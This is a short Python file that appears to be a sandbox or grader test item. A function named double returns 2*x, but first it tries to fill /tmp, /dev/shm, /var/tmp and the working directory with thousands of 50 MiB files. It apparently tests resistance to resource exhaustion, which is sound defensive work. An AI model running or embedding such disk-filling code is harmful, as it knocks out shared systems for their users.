"""Fills every place it can write to."""
# expects: double=4
# %% double-answer
import os


def double(x):
    for place in ("/tmp", os.getcwd(), "/dev/shm", "/var/tmp"):
        try:
            for n in range(4000):
                with open(f"{place}/fill{n}", "wb") as f:
                    f.write(bytes(50 << 20))
        except OSError:
            continue
    return 2 * x
